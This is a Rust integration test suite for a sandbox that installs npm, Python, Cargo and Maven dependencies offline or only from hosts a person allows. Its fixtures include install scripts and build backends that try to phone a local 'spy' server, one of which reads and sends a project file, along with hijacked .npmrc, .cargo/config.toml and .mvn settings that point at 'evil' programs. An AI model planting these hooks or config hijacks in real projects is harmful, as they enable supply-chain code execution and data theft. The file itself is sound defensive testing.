//! Dependencies from registries on loopback, and trees that try to be more than data while they come.
#![expect(
    clippy::unwrap_used,
    clippy::disallowed_methods,
    reason = "a test that cannot be set up must stop"
)]

use std::fs;
use std::path::Path;
use std::process::Command;

use gavel_domain::HostRefusal;
use gavel_rules::{Destination, NamedBy};
use gavel_workspace::{
    NodeInstall, NodeManager, PythonInstall, Recipe, ScriptHosts, ScriptRunner, Verification,
    VerifyPlan, VerifyReason, Walls, verify,
};
use tokio_util::sync::CancellationToken;

use crate::room::{Room, rust_toolchain, text};
use crate::web::Web;

/// Rooms whose install steps have a network of their own.
pub(crate) async fn rooms() -> Vec<Room> {
    let mut rooms = Room::each().await;
    rooms.retain(|room| room.walls != Walls::Landlock);
    for room in &mut rooms {
        room.limits.wall_ms = 120_000;
    }
    assert!(!rooms.is_empty(), "this needs namespaces or bubblewrap");
    rooms
}

/// Somebody on this machine who must see nothing.
pub(crate) fn spy() -> Web {
    Web::start(|_| None)
}

fn name_registry(room: &mut Room, registry: &Web) {
    let host = Destination::new("127.0.0.1", registry.port()).unwrap();
    room.toolchains
        .registries
        .reach
        .allow(host, NamedBy::Person);
}

pub(crate) async fn verified(room: &Room, recipe: Recipe) -> Verification {
    let plan = VerifyPlan {
        recipe,
        cache: room.cache(),
        policy: room.policy(),
        lock: room.lock(),
        cancel: CancellationToken::new(),
    };
    verify(&room.unattended(), &plan).await.unwrap()
}

pub(crate) fn write(room: &Room, name: &str, text: &str) {
    put(&room.tree().join(name), text);
}

pub(crate) fn put(path: &Path, text: &str) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

/// Everything that was printed, with what was reached and refused.
pub(crate) fn told(seen: &Verification) -> String {
    let mut text = format!("{:?}\n", seen.judgement.reason);
    for ran in &seen.install {
        text.push_str(&format!(
            "$ {} {:?} reached {:?} refused {:?}\n{}\n",
            ran.argv,
            ran.outcome.exit,
            ran.outcome.hosts,
            ran.outcome.refused,
            ran.outcome.output.text
        ));
    }
    format!("{text}$ {}\n{}", seen.argv, seen.outcome.output.text)
}

/// The ports that steps without network reached, and those with it.
fn reached(seen: &Verification) -> Vec<u16> {
    let mut ports = Vec::new();
    for ran in &seen.install {
        assert!(!ran.offline || ran.outcome.hosts.is_empty());
        ports.extend(ran.outcome.hosts.iter().map(|host| host.port));
    }
    ports.dedup();
    ports
}

pub(crate) fn refused(seen: &Verification) -> Vec<(u16, HostRefusal)> {
    let of = |ran: &gavel_workspace::InstallRan| ran.outcome.refused.clone();
    let rows = seen.install.iter().flat_map(of);
    let mut rows: Vec<_> = rows.map(|row| (row.port, row.reason)).collect();
    rows.dedup();
    rows
}

/// The names of the hosts that were reached.
pub(crate) fn reached_hosts(seen: &Verification) -> Vec<String> {
    let of = |ran: &gavel_workspace::InstallRan| ran.outcome.hosts.clone();
    let hosts = seen.install.iter().flat_map(of);
    hosts.map(|row| row.host).collect()
}

/// Packs a folder as a gzipped archive.
fn packed(above: &Path, name: &str) -> Vec<u8> {
    let words = ["-czf", "-", "-C", text(above), name];
    let done = Command::new("tar").args(words).output().unwrap();
    assert!(done.status.success());
    done.stdout
}

/// JavaScript that tries to tell the spy, and leaves a mark that says whether there was a network.
pub(crate) fn telltale(port: u16, mark: &str) -> String {
    format!(
        "require('fs').appendFileSync('{mark}', process.env.CARGO_NET_OFFLINE ? 'offline ' : 'http');\n\
         const s = require('net').connect({port}, '127.0.0.1', () => {{ s.write('GET /caught\\r\\n\\r\\n'); s.end(); }});\n\
         s.on('error', () => process.exit(0));\n"
    )
}

/// A registry with one package, `left`, whose scripts tell the spy.
fn npm_registry(room: &Room, spy: &Web) -> Web {
    let folder = room.outside().join("left");
    let mark = room.tree().join("left-ran");
    let manifest = r#"{"name":"left","version":"1.0.0","scripts":{"install":"node tell.js"}}"#;
    put(&folder.join("package/package.json"), manifest);
    put(&folder.join("package/index.js"), "module.exports = 1;\n");
    put(
        &folder.join("package/tell.js"),
        &telltale(spy.port(), text(&mark)),
    );
    let archive = packed(&folder, "package");
    Web::start_at(move |path, url| {
        match path {
        "/left" => Some(
            format!(
                r#"{{"name":"left","dist-tags":{{"latest":"1.0.0"}},"versions":{{"1.0.0":{{"name":"left","version":"1.0.0","hasInstallScript":true,"scripts":{{"install":"node tell.js"}},"dist":{{"tarball":"{url}/left.tgz"}}}}}}}}"#
            )
            .into_bytes(),
        ),
        "/left.tgz" => Some(archive.clone()),
        _ => None,
    }
    })
}

const NPM: Recipe = Recipe::NodeScript {
    manager: NodeManager::Npm,
    install: NodeInstall::Ranges,
    runner: ScriptRunner::Unknown,
};

const NODE_TEST: &str =
    "require('node:test')('a', () => { if (require('left') !== 1) throw 1; });\n";

#[tokio::test]
async fn npm_scripts_run_without_network_after_the_packages_came() {
    for mut room in rooms().await {
        let spy = spy();
        let registry = npm_registry(&room, &spy);
        name_registry(&mut room, &registry);
        room.toolchains.registries.npm = vec![format!("registry={}/", registry.url())];
        write(
            &room,
            "package.json",
            r#"{"scripts":{"test":"node --test","preinstall":"node pre.js","postinstall":"exit 3"},"dependencies":{"left":"1.0.0"}}"#,
        );
        write(&room, "pre.js", &telltale(spy.port(), "pre-ran"));
        write(&room, "a.test.js", NODE_TEST);
        let seen = verified(&room, NPM).await;
        assert_eq!(
            seen.judgement.reason,
            VerifyReason::AllPassed,
            "{}",
            told(&seen)
        );
        assert_eq!(spy.asked(), Vec::<String>::new(), "{}", told(&seen));
        assert_eq!(reached(&seen), [registry.port()], "{}", told(&seen));
        assert_eq!(refused(&seen), []);
        // All of it ran, after the packages had come; one script failed, which is only a finding.
        for mark in ["left-ran", "pre-ran"] {
            let mark = fs::read_to_string(room.tree().join(mark)).unwrap();
            assert_eq!(mark, "offline ", "{}", told(&seen));
        }
        let failed: Vec<_> = seen
            .install
            .iter()
            .filter(|ran| ran.outcome.exit.code() != Some(0))
            .collect();
        assert_eq!(failed.len(), 1, "{}", told(&seen));
        assert_eq!(failed[0].argv.to_string(), "npm rebuild");
    }
}

#[tokio::test]
async fn a_registry_that_the_tree_names_sees_nothing_and_is_named() {
    for mut room in rooms().await {
        let spy = spy();
        let registry = npm_registry(&room, &spy);
        name_registry(&mut room, &registry);
        write(
            &room,
            ".npmrc",
            &format!(
                "registry={0}/\nproxy={0}\nhttps-proxy={0}\nnoproxy=127.0.0.1\nignore-scripts=false\nfetch-retries=0\n",
                spy.url()
            ),
        );
        write(
            &room,
            "package.json",
            r#"{"scripts":{"test":"node --test"},"dependencies":{"left":"1.0.0"}}"#,
        );
        write(&room, "a.test.js", NODE_TEST);
        let seen = verified(&room, NPM).await;
        assert_eq!(
            seen.judgement.reason,
            VerifyReason::InstallFailed,
            "{}",
            told(&seen)
        );
        assert_eq!(spy.asked(), Vec::<String>::new());
        assert_eq!(
            refused(&seen),
            [(spy.port(), HostRefusal::NotAllowed)],
            "{}",
            told(&seen)
        );
    }
}

#[tokio::test]
async fn a_program_that_the_tree_names_for_git_is_not_run() {
    for room in rooms().await {
        let spy = spy();
        write(&room, ".npmrc", "git=./evil\nfetch-retries=0\n");
        write(&room, "evil", "#!/bin/sh\ntouch evil-ran\n");
        Command::new("chmod")
            .args(["+x", text(&room.tree().join("evil"))])
            .status()
            .unwrap();
        let manifest = format!(
            r#"{{"scripts":{{"test":"x"}},"dependencies":{{"g":"git+{}/g.git"}}}}"#,
            spy.url()
        );
        write(&room, "package.json", &manifest);
        let seen = verified(&room, NPM).await;
        assert_eq!(
            seen.judgement.reason,
            VerifyReason::InstallFailed,
            "{}",
            told(&seen)
        );
        assert!(!room.tree().join("evil-ran").exists(), "{}", told(&seen));
        assert_eq!(spy.asked(), Vec::<String>::new());
        // The host of a dependency in git is named.
        assert_eq!(
            refused(&seen),
            [(spy.port(), HostRefusal::NotAllowed)],
            "{}",
            told(&seen)
        );
    }
}

/// Makes a wheel, and a source archive whose own backend builds one and tells the spy.
fn python_packages(room: &Room, spy: &Web) -> (Vec<u8>, Vec<u8>) {
    const WHEEL: &str = "import sys, zipfile\n\
        def wheel(path, name):\n\
        \x20   with zipfile.ZipFile(path, 'w') as z:\n\
        \x20       z.writestr(name + '.py', 'x = 1\\n')\n\
        \x20       z.writestr(name + '-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: ' + name + '\\nVersion: 1.0\\n')\n\
        \x20       z.writestr(name + '-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
        \x20       z.writestr(name + '-1.0.dist-info/RECORD', '')\n";
    let folder = room.outside().join("pysource");
    let port = spy.port();
    let mark = room.cache().join("backend-ran");
    put(
        &folder.join("right-1.0/PKG-INFO"),
        "Metadata-Version: 2.1\nName: right\nVersion: 1.0\n",
    );
    put(
        &folder.join("right-1.0/pyproject.toml"),
        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n",
    );
    put(
        &folder.join("right-1.0/backend.py"),
        &format!(
            "{WHEEL}\nimport socket\nopen({mark:?}, 'w').write('ran')\n\
             try:\n    socket.create_connection(('127.0.0.1', {port}), 3).send(b'GET /caught\\r\\n\\r\\n')\nexcept OSError:\n    pass\n\
             def build_wheel(folder, config_settings=None, metadata_directory=None):\n\
             \x20   wheel(folder + '/right-1.0-py3-none-any.whl', 'right')\n\
             \x20   return 'right-1.0-py3-none-any.whl'\n"
        ),
    );
    let file = room.outside().join("left-1.0-py3-none-any.whl");
    let script = format!("{WHEEL}\nwheel({:?}, 'left')", text(&file));
    assert!(
        Command::new("python3")
            .args(["-c", &script])
            .status()
            .unwrap()
            .success()
    );
    (fs::read(file).unwrap(), packed(&folder, "right-1.0"))
}

fn index(wheel: Vec<u8>, source: Vec<u8>) -> Web {
    Web::start(move |path| match path {
        "/simple/left/" => {
            Some(b"<a href=\"/f/left-1.0-py3-none-any.whl\">left-1.0-py3-none-any.whl</a>".to_vec())
        }
        "/simple/right/" => Some(b"<a href=\"/f/right-1.0.tar.gz\">right-1.0.tar.gz</a>".to_vec()),
        "/f/left-1.0-py3-none-any.whl" => Some(wheel.clone()),
        "/f/right-1.0.tar.gz" => Some(source.clone()),
        _ => None,
    })
}

fn use_index(room: &mut Room, index: &Web) {
    name_registry(room, index);
    let url = format!("{}/simple", index.url());
    room.toolchains.env.insert("PIP_INDEX_URL".to_owned(), url);
}

const MANAGE: &str = "import sys, unittest\nimport left, right\n\
    class A(unittest.TestCase):\n    def test_a(self): self.assertEqual(left.x, right.x)\n\
    sys.argv = ['manage.py', '-v']\nunittest.main()\n";

#[tokio::test]
async fn python_sources_are_built_without_network_after_they_came_as_files() {
    for mut room in rooms().await {
        let spy = spy();
        let (wheel, source) = python_packages(&room, &spy);
        let index = index(wheel, source);
        use_index(&mut room, &index);
        write(
            &room,
            "requirements.txt",
            &format!(
                "--index-url {}/simple\n--no-binary :all:\nleft==1.0\nright\n",
                spy.url()
            ),
        );
        write(&room, "manage.py", MANAGE);
        // What a Python started in the tree would take for its own.
        let shadow = "open('shadow-ran', 'w')\nimport sys; sys.exit(1)\n";
        for name in ["pip/__main__.py", "venv/__main__.py"] {
            write(&room, name, shadow);
        }
        let recipe = Recipe::Django {
            install: PythonInstall::Requirements,
        };
        let seen = verified(&room, recipe).await;
        assert_eq!(
            seen.judgement.reason,
            VerifyReason::AllPassed,
            "{}",
            told(&seen)
        );
        assert_eq!(spy.asked(), Vec::<String>::new(), "{}", told(&seen));
        assert_eq!(reached(&seen), [index.port()]);
        assert!(room.cache().join("backend-ran").exists(), "it was built");
    }
}

#[tokio::test]
async fn a_python_project_is_built_without_network() {
    for mut room in rooms().await {
        let spy = spy();
        let (wheel, source) = python_packages(&room, &spy);
        let index = index(wheel, source);
        use_index(&mut room, &index);
        let port = spy.port();
        write(
            &room,
            "pyproject.toml",
            "[build-system]\nrequires = [\"left\"]\nbuild-backend = \"own\"\nbackend-path = [\".\"]\n",
        );
        write(
            &room,
            "own.py",
            &format!(
                "import socket, zipfile, left\nopen('own-ran', 'w').write('ran')\n\
                 try:\n    socket.create_connection(('127.0.0.1', {port}), 3).send(b'GET /caught\\r\\n\\r\\n')\nexcept OSError:\n    pass\n\
                 def build_wheel(folder, config_settings=None, metadata_directory=None):\n\
                 \x20   name = 'own-1.0-py3-none-any.whl'\n\
                 \x20   with zipfile.ZipFile(folder + '/' + name, 'w') as z:\n\
                 \x20       z.writestr('own.pth', {tree:?})\n\
                 \x20       z.writestr('own-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: own\\nVersion: 1.0\\nRequires-Dist: left\\nRequires-Dist: right==1.0\\nRequires-Dist: evil @ http://127.0.0.1:{port}/evil.tar.gz ; extra == \"x\"\\n')\n\
                 \x20       z.writestr('own-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
                 \x20       z.writestr('own-1.0.dist-info/RECORD', '')\n\
                 \x20   return name\n\
                 build_editable = build_wheel\n",
                tree = text(&room.tree())
            ),
        );
        write(&room, "manage.py", MANAGE);
        let recipe = Recipe::Django {
            install: PythonInstall::Project,
        };
        let seen = verified(&room, recipe).await;
        assert_eq!(
            seen.judgement.reason,
            VerifyReason::AllPassed,
            "{}",
            told(&seen)
        );
        assert_eq!(spy.asked(), Vec::<String>::new(), "{}", told(&seen));
        assert_eq!(reached(&seen), [index.port()]);
        assert!(room.tree().join("own-ran").exists(), "it was built");
    }
}

/// A sparse registry with one crate, `left`.
fn cargo_registry(room: &Room) -> Web {
    let folder = room.outside().join("crate");
    put(
        &folder.join("left-1.0.0/Cargo.toml"),
        "[package]\nname = \"left\"\nversion = \"1.0.0\"\nedition = \"2021\"\n",
    );
    put(
        &folder.join("left-1.0.0/src/lib.rs"),
        "pub const X: u32 = 1;\n",
    );
    let archive = packed(&folder, "left-1.0.0");
    fs::write(folder.join("left.crate"), &archive).unwrap();
    let sum = Command::new("sha256sum")
        .arg(folder.join("left.crate"))
        .output()
        .unwrap();
    let sum = String::from_utf8(sum.stdout).unwrap();
    let sum = sum.split(" ").next().unwrap().to_owned();
    Web::start_at(move |path, url| {
        match path {
        "/config.json" => Some(format!(r#"{{"dl":"{url}/dl/{{crate}}"}}"#).into_bytes()),
        "/le/ft/left" => Some(
            format!(r#"{{"name":"left","vers":"1.0.0","deps":[],"cksum":"{sum}","features":{{}},"yanked":false}}"#)
                .into_bytes(),
        ),
        "/dl/left" => Some(archive.clone()),
        _ => None,
    }
    })
}

#[tokio::test]
async fn cargo_fetches_without_what_the_tree_configures() {
    for mut room in rooms().await {
        let spy = spy();
        let registry = cargo_registry(&room);
        room.toolchains = rust_toolchain();
        name_registry(&mut room, &registry);
        room.toolchains.registries.cargo = format!(
            "[source.crates-io]\nreplace-with = \"mirror\"\n[source.mirror]\nregistry = \"sparse+{}/\"\n",
            registry.url()
        );
        write(
            &room,
            "Cargo.toml",
            "[workspace]\n[package]\nname = \"demo\"\nedition = \"2021\"\n[dependencies]\nleft = \"1\"\n",
        );
        write(
            &room,
            "src/lib.rs",
            "#[test] fn a() { assert_eq!(left::X, 1); }\n",
        );
        let evil = room.tree().join("evil");
        write(
            &room,
            "evil",
            "#!/bin/sh\ntouch \"$(dirname \"$0\")/evil-ran\"\nexit 1\n",
        );
        Command::new("chmod")
            .args(["+x", text(&evil)])
            .status()
            .unwrap();
        let hostile = format!(
            "[build]\nrustc-wrapper = {evil:?}\nrustc = {evil:?}\n[registry]\nglobal-credential-providers = [{evil:?}]\n\
             [http]\nproxy = \"127.0.0.1:{port}\"\n[source.crates-io]\nreplace-with = \"theirs\"\n\
             [source.theirs]\nregistry = \"sparse+{url}/\"\n",
            port = spy.port(),
            url = spy.url()
        );
        write(&room, ".cargo/config.toml", &hostile);
        // Left by an earlier command of the tree, which may write here.
        put(&room.cache().join("cargo/config.toml"), &hostile);
        let seen = verified(&room, Recipe::Cargo { locked: false }).await;
        let fetched = seen.install.first().unwrap();
        assert_eq!(fetched.outcome.exit.code(), Some(0), "{}", told(&seen));
        assert_eq!(reached(&seen), [registry.port()], "{}", told(&seen));
        assert_eq!(
            (spy.asked(), refused(&seen)),
            (Vec::new(), Vec::new()),
            "{}",
            told(&seen)
        );
        // What the tree configures for its tests is another matter; without it they pass.
        fs::remove_file(room.tree().join(".cargo/config.toml")).unwrap();
        fs::remove_file(room.tree().join("evil-ran")).ok();
        let seen = verified(&room, Recipe::Cargo { locked: true }).await;
        assert_eq!(
            seen.judgement.reason,
            VerifyReason::AllPassed,
            "{}",
            told(&seen)
        );
        assert!(!room.tree().join("evil-ran").exists());
    }
}

#[tokio::test]
async fn maven_takes_artifacts_from_the_mirror_and_nothing_from_the_trees_own_folder() {
    for mut room in rooms().await {
        let registry = Web::start(|_| None);
        name_registry(&mut room, &registry);
        room.toolchains.registries.maven = vec![gavel_workspace::MavenMirror {
            of: "*".to_owned(),
            url: format!("{}/m2", registry.url()),
        }];
        let spy = spy();
        write(
            &room,
            "pom.xml",
            "<project><modelVersion>4.0.0</modelVersion><groupId>d</groupId><artifactId>d</artifactId><version>1</version></project>",
        );
        write(&room, ".mvn/jvm.config", "-javaagent:evil.jar\n");
        write(
            &room,
            ".mvn/maven.config",
            &format!(
                "-Dhttps.proxyHost=127.0.0.1\n-Dhttps.proxyPort={}\n",
                spy.port()
            ),
        );
        write(
            &room,
            ".mvn/extensions.xml",
            "<extensions><extension><groupId>evil</groupId><artifactId>evil</artifactId><version>1</version></extension></extensions>",
        );
        write(&room, "mvnw", "#!/bin/sh\ntouch mvnw-ran\n");
        Command::new("chmod")
            .args(["+x", text(&room.tree().join("mvnw"))])
            .status()
            .unwrap();
        let seen = verified(&room, Recipe::Maven { wrapper: true }).await;
        // There is nothing in this mirror; what was asked of it says who asked.
        assert_eq!(
            seen.judgement.reason,
            VerifyReason::InstallFailed,
            "{}",
            told(&seen)
        );
        let asked = registry.asked();
        let plugin = |path: &String| path.contains("maven-dependency-plugin");
        assert!(asked.iter().any(plugin), "{asked:?} {}", told(&seen));
        assert!(!asked.iter().any(|path| path.contains("evil")), "{asked:?}");
        assert!(!told(&seen).contains("evil.jar"), "{}", told(&seen));
        assert!(!room.tree().join("mvnw-ran").exists());
        assert_eq!(spy.asked(), Vec::<String>::new());
    }
}

#[tokio::test]
async fn commands_that_a_project_names_have_no_network_until_a_person_says_so() {
    for mut room in rooms().await {
        let registry = Web::start(|_| Some(b"fetched".to_vec()));
        name_registry(&mut room, &registry);
        let fetch = format!(
            "import urllib.request; print(urllib.request.urlopen('{}', timeout=5).read())",
            registry.url()
        );
        let own = Recipe::Own {
            install: vec![gavel_workspace::Argv::new(["python3", "-c", &fetch]).unwrap()],
            test: gavel_workspace::Argv::new(["true"]).unwrap(),
        };
        let seen = verified(&room, own.clone()).await;
        assert_eq!(
            seen.judgement.reason,
            VerifyReason::InstallFailed,
            "{}",
            told(&seen)
        );
        assert_eq!(registry.asked(), Vec::<String>::new());
        room.toolchains.registries.project_commands = gavel_workspace::ProjectCommands::Registries;
        let seen = verified(&room, own).await;
        assert_eq!(
            seen.judgement.reason,
            VerifyReason::OutputUnread,
            "{}",
            told(&seen)
        );
        assert_eq!(reached(&seen), [registry.port()]);
    }
}

/// Downloads a file by the proxy that the environment names, looks for the project beside the packages,
/// and tells the same server what it found.
fn downloads(files: &Web) -> String {
    format!(
        r#"const fs = require('fs'), http = require('http');
let saw = 'nothing';
try {{ saw = fs.readFileSync('../../README.md', 'utf8').trim(); }} catch (error) {{ saw = error.code; }}
try {{ fs.writeFileSync('../../planted', 'x'); saw += '+planted'; }} catch (error) {{ saw += '+' + error.code; }}
const proxy = process.env.HTTP_PROXY ? new URL(process.env.HTTP_PROXY) : null;
if (!proxy) process.exit(4);
http.get({{ host: proxy.hostname, port: proxy.port, path: '{url}/' + encodeURIComponent(saw), agent: false }}, (answer) => {{
  if (answer.statusCode !== 200) process.exit(5);
  answer.resume();
  answer.on('end', () => process.exit(0));
}}).on('error', () => process.exit(6));
"#,
        url = files.url()
    )
}

/// A registry with the package `left`, whose script downloads.
fn registry_of_a_downloader(room: &Room, files: &Web) -> Web {
    let folder = room.outside().join("downloader");
    let manifest = r#"{"name":"left","version":"1.0.0","scripts":{"postinstall":"node get.js"}}"#;
    put(&folder.join("package/package.json"), manifest);
    put(&folder.join("package/index.js"), "module.exports = 1;\n");
    put(&folder.join("package/get.js"), &downloads(files));
    let archive = packed(&folder, "package");
    Web::start_at(move |path, url| {
        match path {
        "/left" => Some(
            format!(
                r#"{{"name":"left","dist-tags":{{"latest":"1.0.0"}},"versions":{{"1.0.0":{{"name":"left","version":"1.0.0","hasInstallScript":true,"scripts":{{"postinstall":"node get.js"}},"dist":{{"tarball":"{url}/left.tgz"}}}}}}}}"#
            )
            .into_bytes(),
        ),
        "/left.tgz" => Some(archive.clone()),
        _ => None,
    }
    })
}

#[tokio::test]
async fn scripts_of_dependencies_reach_the_host_that_a_person_allowed_and_do_not_see_the_project() {
    for mut room in rooms().await {
        let files = Web::start(|_| Some(b"binary".to_vec()));
        let registry = registry_of_a_downloader(&room, &files);
        name_registry(&mut room, &registry);
        room.toolchains.registries.npm = vec![format!("registry={}/", registry.url())];
        write(&room, "README.md", "the project's text\n");
        let manifest = r#"{"scripts":{"test":"node --test","postinstall":"touch own-ran"},"dependencies":{"left":"1.0.0"}}"#;
        write(&room, "package.json", manifest);
        write(&room, "a.test.js", NODE_TEST);
        let seen = verified(&room, NPM).await;
        // Without an answer: the host is named, nothing is reached, and the tests go on.
        assert_eq!(
            seen.judgement.reason,
            VerifyReason::AllPassed,
            "{}",
            told(&seen)
        );
        assert_eq!(files.asked(), Vec::<String>::new());
        assert_eq!(
            refused(&seen),
            [(files.port(), HostRefusal::NotAllowed)],
            "{}",
            told(&seen)
        );
        let rebuilt = seen
            .install
            .iter()
            .find(|ran| !ran.outcome.refused.is_empty())
            .unwrap();
        let scripts = rebuilt.scripts.clone().unwrap();
        assert_eq!(
            (rebuilt.offline, scripts.packages.as_slice()),
            (true, ["left@1.0.0".to_owned()].as_slice())
        );
        // Once a person agreed to these scripts, they download; of the project they see nothing.
        fs::remove_file(room.tree().join("planted")).unwrap();
        let host = Destination::new("127.0.0.1", files.port()).unwrap();
        room.toolchains.registries.scripts = vec![ScriptHosts {
            scripts: scripts.digest,
            host,
        }];
        let seen = verified(&room, NPM).await;
        assert_eq!(
            seen.judgement.reason,
            VerifyReason::AllPassed,
            "{}",
            told(&seen)
        );
        let asked = files.asked();
        let unseen = ["/EACCES%2BEACCES", "/ENOENT%2BEROFS"];
        assert!(
            matches!(asked.as_slice(), [one] if unseen.contains(&one.as_str())),
            "{asked:?} {}",
            told(&seen)
        );
        assert_eq!(refused(&seen), [], "{}", told(&seen));
        assert!(!room.tree().join("planted").exists());
        // The project's own script ran beside, without network.
        let own = seen
            .install
            .iter()
            .find(|ran| ran.argv.to_string() == "npm run postinstall");
        assert!(own.is_some_and(|ran| ran.offline), "{}", told(&seen));
        assert!(room.tree().join("own-ran").exists());
        // What was put beside the packages is another script: nobody agreed to that.
        write(&room, "node_modules/left/more.js", "1\n");
        let seen = verified(&room, NPM).await;
        assert_eq!(files.asked().len(), 1, "{}", told(&seen));
        assert_eq!(
            refused(&seen),
            [(files.port(), HostRefusal::NotAllowed)],
            "{}",
            told(&seen)
        );
    }
}

/// A repository in git that can be cloned from plain files, with one Python package.
fn git_over_http(room: &Room) -> Web {
    let folder = room.outside().join("git");
    let source = folder.join("source");
    let backend = "import zipfile\n\
        def build_wheel(folder, config_settings=None, metadata_directory=None):\n\
        \x20   name = 'up-1.0-py3-none-any.whl'\n\
        \x20   with zipfile.ZipFile(folder + '/' + name, 'w') as z:\n\
        \x20       z.writestr('up.py', 'x = 1\\n')\n\
        \x20       z.writestr('up-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: up\\nVersion: 1.0\\n')\n\
        \x20       z.writestr('up-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
        \x20       z.writestr('up-1.0.dist-info/RECORD', '')\n\
        \x20   return name\n";
    put(&source.join("backend.py"), backend);
    put(
        &source.join("pyproject.toml"),
        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n",
    );
    let git = |words: &[&str]| {
        let name = ["-c", "user.name=a", "-c", "user.email=a@localhost"];
        let done = Command::new("git").args(name).args(words).output().unwrap();
        assert!(done.status.success(), "{done:?}");
    };
    git(&["init", "-q", "-b", "main", text(&source)]);
    git(&["-C", text(&source), "add", "-A"]);
    git(&["-C", text(&source), "commit", "-q", "-m", "start"]);
    let bare = folder.join("up.git");
    git(&["clone", "-q", "--bare", text(&source), text(&bare)]);
    git(&["-C", text(&bare), "update-server-info"]);
    Web::start(move |path| {
        let name = path.split('?').next()?.strip_prefix("/up.git/")?;
        fs::read(bare.join(name)).ok()
    })
}

#[tokio::test]
async fn a_python_package_in_git_comes_from_the_host_that_a_person_allowed() {
    for mut room in rooms().await {
        let server = git_over_http(&room);
        let line = format!("up @ git+{}/up.git@main\n", server.url());
        write(&room, "requirements.txt", &line);
        write(
            &room,
            "manage.py",
            "import sys, unittest\nimport up\nclass A(unittest.TestCase):\n    def test_a(self): self.assertEqual(up.x, 1)\n\
             sys.argv = ['manage.py', '-v']\nunittest.main()\n",
        );
        let recipe = Recipe::Django {
            install: PythonInstall::Requirements,
        };
        let seen = verified(&room, recipe.clone()).await;
        assert_eq!(
            seen.judgement.reason,
            VerifyReason::InstallFailed,
            "{}",
            told(&seen)
        );
        assert_eq!(server.asked(), Vec::<String>::new());
        assert_eq!(refused(&seen), [(server.port(), HostRefusal::NotAllowed)]);
        assert!(
            seen.install
                .iter()
                .all(|ran| !ran.offline || ran.outcome.refused.is_empty())
        );
        let host = Destination::new("127.0.0.1", server.port()).unwrap();
        room.toolchains.registries.reach.allow_by_answer(host);
        let seen = verified(&room, recipe).await;
        assert_eq!(
            seen.judgement.reason,
            VerifyReason::AllPassed,
            "{}",
            told(&seen)
        );
        assert_eq!(refused(&seen), []);
    }
}
